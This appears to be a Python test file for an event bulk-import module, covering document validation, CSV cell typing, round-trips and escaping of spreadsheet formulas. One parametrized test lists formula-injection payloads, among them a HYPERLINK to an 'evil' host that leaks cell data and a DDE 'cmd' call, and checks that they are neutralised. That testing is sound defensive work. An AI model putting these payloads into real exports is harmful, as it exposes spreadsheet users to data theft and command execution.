"""Event documents for bulk import: GraphQL's shapes read strictly, CSV cells typed by column,
text cells escaped from spreadsheets' formulas and read back exactly."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.cli_bulk import csv_writer
from app.domain.event_documents import (
    CSV_COLUMNS,
    FORMULA_STARTS,
    csv_document,
    csv_row,
    read_document,
)
from app.domain.events import Device, EventKind, ProductType
from app.errors import BadParams
from app.import_files import csv_documents


def test_a_search_with_everything_graphql_takes() -> None:
    imported = read_document(
        {
            "search": {
                "query": "shoes",
                "resultCount": 0,
                "appliedFilters": [{"filter": "a", "operator": "equals", "value": "b"}],
                "sort": {"by": "score", "order": "desc"},
                "page": {"size": 10, "totalElements": 0},
                "queryId": "q1",
                "device": "MOBILE",
                "isBot": True,
            }
        }
    )
    draft = imported.draft
    assert (draft.kind, draft.query, draft.query_id, draft.effective_result_count) == (
        EventKind.SEARCH,
        "shoes",
        "q1",
        0,
    )
    assert draft.sort is not None
    assert draft.sort.order == "desc"
    assert (imported.device, imported.is_bot) == (Device.MOBILE, True)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ([], "expected an object with exactly one of"),
        ({"search": {}, "visit": {}}, "expected an object with exactly one of"),
        ({"purchase": {}}, "unknown event type 'purchase'"),
        ({"click": {"documentId": "d", "rank": "1"}}, "rank must be an integer"),
        ({"click": {"documentId": "d", "rank": True}}, "rank must be an integer"),
        ({"visit": {"store": 5}}, "store must be a string"),
        ({"visit": {"store": "s", "occurredAt": "yesterday"}}, "occurredAt must be an ISO"),
        ({"visit": {"store": "s", "isBot": "yes"}}, "isBot must be true or false"),
        ({"click": {"documentId": "d", "rank": 1, "productType": "coupon"}}, "productType must"),
        ({"search": {"query": "q", "sort": {"by": "x"}}}, "sort.order must be a string"),
        ({"search": {"query": "q", "page": {"pages": 1}}}, "page has unknown fields: pages"),
        ({"view": {"targetId": "t", "query": "q"}}, "unknown fields for view: query"),
    ],
)
def test_malformed_documents_say_what_is_wrong(document: Any, message: str) -> None:
    with pytest.raises(BadParams) as raised:
        read_document(document)
    assert message in raised.value.message


def test_csv_cells_are_typed_by_column_and_kind() -> None:
    row = dict.fromkeys(CSV_COLUMNS, "") | {
        "type": "click",
        "documentId": "d1",
        "rank": "3",
        "page": "2",
        "productType": "banner",
        "isBot": "false",
    }
    imported = read_document(csv_document(row))
    assert (imported.draft.rank, imported.draft.page, imported.is_bot) == (3, 2, False)
    assert imported.draft.product_type is ProductType.BANNER
    search = {"type": "search", "query": "q", "page": '{"number": 1}', "sort": "not json"}
    with pytest.raises(BadParams, match="sort must hold JSON"):
        csv_document(search)


def test_csv_rows_round_trip() -> None:
    document = {"search": {"query": "q", "sort": {"by": "x", "order": "asc"}, "isBot": False}}
    assert csv_document(csv_row(document)) == document


TEXT_FIELDS = ("query", "sessionId", "userId", "configuration", "clickedObject")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1-cmd", "'+1-cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        # Already looking escaped: one more quote, taken off on the way back.
        ("'=1", "''=1"),
        ("''+x", "'''+x"),
        ("'\t", "''\t"),
        # Left as they are: no formula starts there.
        ("'x", "'x"),
        ("'", "'"),
        ("''", "''"),
        ("x=1", "x=1"),
        (" =1", " =1"),
        ("shoes", "shoes"),
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_is_written_after_a_quote(text: str, cell: str) -> None:
    document = {"search": dict.fromkeys(TEXT_FIELDS, text)}
    row = csv_row(document)
    assert {row[field] for field in TEXT_FIELDS} == {cell}
    assert csv_document(row) == document


def test_numbers_are_not_text_cells() -> None:
    document = {"feedback": {"documentId": "d", "score": -1, "rank": 0}}
    assert csv_row(document)["score"] == "-1"
    assert csv_document(csv_row(document)) == document


def through_a_file(documents: list[dict[str, Any]]) -> tuple[list[Any], str]:
    """What ``export --format csv`` writes of the documents, and what ``import`` reads of it."""
    out = io.StringIO(newline="")
    write = csv_writer(out)
    for document in documents:
        write(document)
    source = io.BufferedReader(io.BytesIO(out.getvalue().encode()))
    read = [document for _, document in csv_documents(source, lambda _: None, limit=1 << 20)]
    return read, out.getvalue()


@pytest.mark.parametrize("text", ["a\rb", "a\r", "a\r\nb", "a\nb", 'say "hi", then go'])
def test_a_line_break_or_a_quote_in_a_cell_reads_back(text: str) -> None:
    """A lone carriage return was written bare: the import refused the row as not CSV."""
    documents = [{"search": {"query": text, "eventId": "e1"}}, {"visit": {"store": "s"}}]
    read, written = through_a_file(documents)
    assert read == documents
    assert written.count("\n") == 3 + text.count("\n")  # the header and two rows, one a line


# Any UTF-8 text but NUL (refused at every door: never stored, so never exported); empty
# strings are empty cells, read back as absent fields. Often one starting a formula, after quotes.
CHARACTERS = st.characters(codec="utf-8", exclude_characters="\x00")
TEXTS = st.text(CHARACTERS, min_size=1) | st.builds(
    lambda quotes, start, rest: "'" * quotes + start + rest,
    st.integers(min_value=0, max_value=3),
    st.sampled_from([*FORMULA_STARTS, "'", "\n", "x"]),
    st.text(CHARACTERS),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_every_string_round_trips_through_an_export_file_and_starts_no_formula(
    texts: list[str],
) -> None:
    documents = [{"search": dict.fromkeys(TEXT_FIELDS, text)} for text in texts]
    read, written = through_a_file(documents)
    assert read == documents
    # As a spreadsheet reads the file: no cell starts a formula.
    cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] and cell[0] in FORMULA_STARTS]
